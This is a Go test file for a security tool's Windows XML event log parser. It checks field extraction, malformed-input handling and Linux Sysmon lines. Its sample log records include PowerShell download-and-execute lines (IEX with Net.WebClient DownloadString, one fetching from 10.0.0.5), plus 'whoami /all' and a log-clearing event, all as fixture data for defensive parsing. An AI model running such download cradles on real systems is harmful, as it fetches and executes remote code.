package winxml

import (
	"context"
	"errors"
	"github.com/riskhound/riskhound/internal/spltime"
	"io"
	"os"
	"strings"
	"testing"
	"testing/iotest"

	"github.com/riskhound/riskhound/internal/event"
)

// readAll reads text with the given chunk size and returns the events and
// problems.
func readAll(t *testing.T, text string, size int) ([]*event.Event, []event.Problem) {
	t.Helper()
	var evs []*event.Event
	var probs []event.Problem
	err := read(context.Background(), "test.log", strings.NewReader(text), size,
		func(e *event.Event) error { evs = append(evs, e); return nil },
		func(p event.Problem) { probs = append(probs, p) })
	if err != nil {
		t.Fatalf("read: %v", err)
	}
	return evs, probs
}

func fixture(t *testing.T, name string) string {
	t.Helper()
	b, err := os.ReadFile("testdata/" + name)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// byRecord indexes events by EventRecordID.
func byRecord(evs []*event.Event) map[string]*event.Event {
	m := map[string]*event.Event{}
	for _, e := range evs {
		m[e.Get("EventRecordID").Text()] = e
	}
	return m
}

func TestReadFixture(t *testing.T) {
	evs, probs := readAll(t, fixture(t, "mixed.log"), chunkSize)
	if len(evs) != 7 {
		t.Fatalf("got %d events, want 7", len(evs))
	}
	if len(probs) != 1 || probs[0].Where != "line 8" || probs[0].Path != "test.log" {
		t.Fatalf("problems = %v, want one at line 8", probs)
	}
	recs := byRecord(evs)
	absent := "<absent>"
	tests := []struct {
		record string
		want   map[string]string // "<absent>" means no such field
	}{
		{"1234", map[string]string{
			"_time": "1715783842.123456", "host": "ws01.corp.local", "source": "XmlWinEventLog:Microsoft-Windows-PowerShell/Operational",
			"sourcetype": "XmlWinEventLog", "index": "main", "EventCode": "4104", "EventID": "4104", "Name": "Microsoft-Windows-PowerShell",
			"Guid": "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}", "Opcode": "15", "Level": "5", "Task": "2", "Keywords": "0x0", "Version": "1",
			"SystemTime": "2024-05-15T14:37:22.1234567Z", "ActivityID": "{11111111-2222-3333-4444-555555555555}", "ProcessID": "4444",
			"ThreadID": "5555", "Channel": "Microsoft-Windows-PowerShell/Operational", "Computer": "ws01.corp.local",
			"UserID": "S-1-5-21-1-2-3-1001", "user_id": "S-1-5-21-1-2-3-1001", "MessageNumber": "1",
			"ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://x')", "Path": absent,
			"Message": "Creating Scriptblock text (1 of 1): IEX", "Culture": absent,
		}},
		{"1235", map[string]string{
			"_time":           "1715783880.5",
			"ScriptBlockText": "$wc = New-Object Net.WebClient\n$wc.Headers.Add(&quot;User-Agent&quot;, &quot;Mozilla/5.0&quot;)\nif ($a -gt 1 &amp;&amp; $b -lt 2) { Invoke-Expression $wc.DownloadString(&apos;http://10.0.0.5/a.ps1&apos;) }\n",
			"Path":            `C:\Users\bob\a.ps1`, "Message": absent,
		}},
		{"1236", map[string]string{"Level": "3", "UserID": absent, "user_id": absent, "ActivityID": absent, "Path": absent}},
		{"77", map[string]string{
			"Name": "Microsoft-Windows-Sysmon", "EventCode": "1", "UserID": "S-1-5-18", "source": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
			"CommandLine": `cmd.exe /c "echo a &gt; b.txt"`, "Image": `C:\Windows\System32\cmd.exe`, "ProcessId": "6000", "ProcessID": "2000",
			"RuleName": "-", "host": "ws02.corp.local", "_time": "1715784000",
		}},
		{"900", map[string]string{"EventCode": "4688", "source": "XmlWinEventLog:Security", "SubjectUserName": "DC01$", "CommandLine": "whoami /all"}},
		{"902", map[string]string{
			"EventCode": "1102", "SubjectUserName": "bob", "SubjectLogonId": "0x3e7", "LogFileCleared": absent,
			"UserData_Xml": "<LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'><SubjectUserSid>S-1-5-21-1-2-3-500</SubjectUserSid><SubjectUserName>bob</SubjectUserName><SubjectDomainName>CORP</SubjectDomainName><SubjectLogonId>0x3e7</SubjectLogonId></LogFileCleared>",
		}},
		{"5000", map[string]string{
			"EventID": "7036", "EventCode": "7036", "Qualifiers": "16384", "EventSourceName": "Service Control Manager",
			"Name": "Service Control Manager", "Data": "[Windows Update, running]", "Threat_Name": "Trojan:Win32/Test",
			"Tag": "[a, b]", "Binary": "770075006100750073000000", "_time": "1715785200", "source": "XmlWinEventLog:System",
		}},
	}
	for _, tc := range tests {
		e := recs[tc.record]
		if e == nil {
			t.Errorf("record %s missing", tc.record)
			continue
		}
		for name, want := range tc.want {
			got := e.Get(name)
			if want == absent {
				if !got.IsNull() {
					t.Errorf("record %s: %s = %q, want no field", tc.record, name, got)
				}
				continue
			}
			if got.String() != want {
				t.Errorf("record %s: %s = %q, want %q", tc.record, name, got.String(), want)
			}
		}
	}
}

// TestRawIsEventText checks that _raw is exactly the bytes of each event and
// that no field is empty or repeated.
func TestRawIsEventText(t *testing.T) {
	text := fixture(t, "mixed.log")
	evs, _ := readAll(t, text, chunkSize)
	off := 0
	for _, e := range evs {
		raw := e.Get(event.Raw).Text()
		if !strings.HasPrefix(raw, "<Event") || !strings.HasSuffix(raw, "</Event>") {
			t.Errorf("_raw not an event: %.60q", raw)
		}
		i := strings.Index(text[off:], raw)
		if i < 0 {
			t.Fatalf("_raw %.60q is not in the input after offset %d", raw, off)
		}
		off += i + len(raw)
		seen := map[string]bool{}
		for _, f := range e.Fields {
			if seen[f.Name] {
				t.Errorf("field %s repeated", f.Name)
			}
			seen[f.Name] = true
			if f.Value.Text() == "" {
				t.Errorf("field %s is empty", f.Name)
			}
		}
	}
}

// TestChunkBoundaries reads the fixture with tiny chunks, so that every event
// and tag straddles a boundary, and expects the same events and problems.
func TestChunkBoundaries(t *testing.T) {
	text := fixture(t, "mixed.log")
	want, wantProbs := readAll(t, text, chunkSize)
	for _, size := range []int{1, 2, 5, 7, 64, 333, 1000} {
		got, probs := readAll(t, text, size)
		if len(got) != len(want) || len(probs) != len(wantProbs) {
			t.Fatalf("size %d: %d events %d problems, want %d and %d", size, len(got), len(probs), len(want), len(wantProbs))
		}
		for i := range want {
			if g, w := fieldsText(got[i]), fieldsText(want[i]); g != w {
				t.Errorf("size %d: event %d differs:\n got %s\nwant %s", size, i, g, w)
			}
		}
		for i := range probs {
			if probs[i].Where != wantProbs[i].Where {
				t.Errorf("size %d: problem at %s, want %s", size, probs[i].Where, wantProbs[i].Where)
			}
		}
	}
}

func fieldsText(e *event.Event) string {
	var b strings.Builder
	for _, f := range e.Fields {
		b.WriteString(f.Name + "=" + f.Value.String() + "\x00")
	}
	return b.String()
}

const ev4104 = `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='P'/><EventID>4104</EventID><TimeCreated SystemTime='2024-01-01T00:00:00Z'/><Channel>C</Channel><Computer>h</Computer></System><EventData><Data Name='ScriptBlockText'>x</Data></EventData></Event>`

func TestMalformed(t *testing.T) {
	tests := []struct {
		name   string
		in     string
		events int
		where  []string
	}{
		{"clean", ev4104 + "\n" + ev4104, 2, nil},
		{"mismatched end tag", strings.Replace(ev4104, "</Computer>", "</Comp>", 1) + "\n" + ev4104, 1, []string{"line 1"}},
		{"truncated then next", "\n" + ev4104[:100] + "\n" + ev4104 + "\n", 1, []string{"line 2"}},
		{"truncated at end", ev4104 + "\n\n" + ev4104[:150], 1, []string{"line 3"}},
		{"unquoted attribute", strings.Replace(ev4104, "Name='P'", "Name=P", 1) + "\n" + ev4104, 1, []string{"line 1"}},
		{"unterminated quote", strings.Replace(ev4104, "Name='P'", "Name='P", 1) + "\n" + ev4104, 1, []string{"line 1"}},
		{"empty event", "<Event/>\n" + ev4104, 1, []string{"line 1"}},
		{"garbage between", "junk <b>x</b>\n" + ev4104 + "\nmore junk\n" + ev4104, 2, nil},
		{"Events wrapper and prolog", "<?xml version='1.0'?>\n<Events>" + ev4104 + ev4104 + "</Events>", 2, nil},
		{"comment inside", strings.Replace(ev4104, "<System>", "<System><!-- a <Event> in a comment -->", 1), 1, nil},
		{"nothing", "", 0, nil},
		{"metadata names", strings.Replace(ev4104, "<Data Name='ScriptBlockText'>x</Data>", "<Data Name='host'>y</Data><Data Name='index'>z</Data>", 1), 1, nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			for _, size := range []int{3, chunkSize} {
				evs, probs := readAll(t, tc.in, size)
				if len(evs) != tc.events {
					t.Errorf("size %d: %d events, want %d", size, len(evs), tc.events)
				}
				var where []string
				for _, p := range probs {
					where = append(where, p.Where)
				}
				if strings.Join(where, ",") != strings.Join(tc.where, ",") {
					t.Errorf("size %d: problems %v, want at %v", size, probs, tc.where)
				}
			}
		})
	}
}

func TestMetadataClash(t *testing.T) {
	in := strings.Replace(ev4104, "<Data Name='ScriptBlockText'>x</Data>", "<Data Name='host'>y</Data><Data Name='index'>z</Data>", 1)
	evs, _ := readAll(t, in, chunkSize)
	if len(evs) != 1 {
		t.Fatalf("%d events", len(evs))
	}
	e := evs[0]
	if e.Get("host").Text() != "h" || e.Get("index").Text() != "main" || e.Get("extracted_host").Text() != "y" || e.Get("extracted_index").Text() != "z" {
		t.Errorf("fields %v", e.Fields)
	}
}

func TestEmitErrorStops(t *testing.T) {
	stop := errors.New("stop")
	n := 0
	err := Read(context.Background(), "x", strings.NewReader(ev4104+ev4104+ev4104),
		func(*event.Event) error { n++; return stop }, func(event.Problem) {})
	if !errors.Is(err, stop) || n != 1 {
		t.Fatalf("err=%v after %d events, want stop after 1", err, n)
	}
}

func TestCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	err := Read(ctx, "x", strings.NewReader(ev4104), func(*event.Event) error { return nil }, func(event.Problem) {})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
}

func TestParseTime(t *testing.T) {
	tests := []struct {
		in   string
		want string // RFC3339Nano in UTC, "" for a failure
	}{
		{"2024-05-15T14:37:22.1234567Z", "2024-05-15T14:37:22.1234567Z"},
		{"2024-05-15T14:37:22Z", "2024-05-15T14:37:22Z"},
		{"2024-05-15 14:37:22", "2024-05-15T14:37:22Z"},
		{"2024-05-15T14:37:22.5-01:30", "2024-05-15T16:07:22.5Z"},
		{"2024-05-15T14:37:22.Z", ""},
		{"2024-13-15T14:37:22Z", ""},
		{"yesterday", ""},
		{"2024-05-15T14:37:22Zjunk", ""},
	}
	for _, tc := range tests {
		got, ok := spltime.ParseISO(tc.in)
		s := ""
		if ok {
			s = got.UTC().Format("2006-01-02T15:04:05.999999999Z07:00")
		}
		if s != tc.want {
			t.Errorf("spltime.ParseISO(%q) = %q, want %q", tc.in, s, tc.want)
		}
	}
}

// TestReadError checks that a failing source (such as a truncated gzip
// stream, which fails with io.ErrUnexpectedEOF) ends Read with that error,
// after the events before it.
func TestReadError(t *testing.T) {
	src := io.MultiReader(strings.NewReader(ev4104+"\n"+ev4104[:20]), iotest.ErrReader(io.ErrUnexpectedEOF))
	n := 0
	err := Read(context.Background(), "x", src, func(*event.Event) error { n++; return nil }, func(event.Problem) {})
	if n != 1 || !errors.Is(err, io.ErrUnexpectedEOF) {
		t.Fatalf("%d events, err %v; want 1 and io.ErrUnexpectedEOF", n, err)
	}
}

// Linux Sysmon logs one event per syslog line; the header before <Event> is
// not part of the event, and the events get the names Splunk's Linux Sysmon
// add-on gives them.
func TestLinuxSysmonSyslog(t *testing.T) {
	line := func(rec, img string) string {
		return `Mar 12 08:01:05 lnx-1 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>` +
			`<EventID>1</EventID><TimeCreated SystemTime="2025-03-12T08:01:05.250000000Z"/><EventRecordID>` + rec + `</EventRecordID>` +
			`<Channel>Linux-Sysmon/Operational</Channel><Computer>lnx-1</Computer><Security UserId="0"/></System>` +
			`<EventData><Data Name="Image">` + img + `</Data><Data Name="User">root</Data></EventData></Event>` + "\n"
	}
	evs, probs := readAll(t, line("1", "/usr/sbin/useradd")+line("2", "/usr/bin/id"), chunkSize)
	if len(evs) != 2 || len(probs) != 0 {
		t.Fatalf("got %d events, problems %v; want 2 events", len(evs), probs)
	}
	for _, e := range evs {
		for k, want := range map[string]string{"source": "Syslog:Linux-Sysmon/Operational", "sourcetype": "sysmon:linux",
			"host": "lnx-1", "EventCode": "1", "UserId": "0", "User": "root", "_time": "1741766465.25"} {
			if got := e.Get(k).Text(); got != want {
				t.Errorf("record %s: %s = %q, want %q", e.Get("EventRecordID").Text(), k, got, want)
			}
		}
		if raw := e.Get("_raw").Text(); !strings.HasPrefix(raw, "<Event>") || !strings.HasSuffix(raw, "</Event>") {
			t.Errorf("_raw = %q, want the <Event> element only", raw)
		}
	}
	if evs[1].Get("Image").Text() != "/usr/bin/id" {
		t.Errorf("second event Image = %q", evs[1].Get("Image").Text())
	}
}
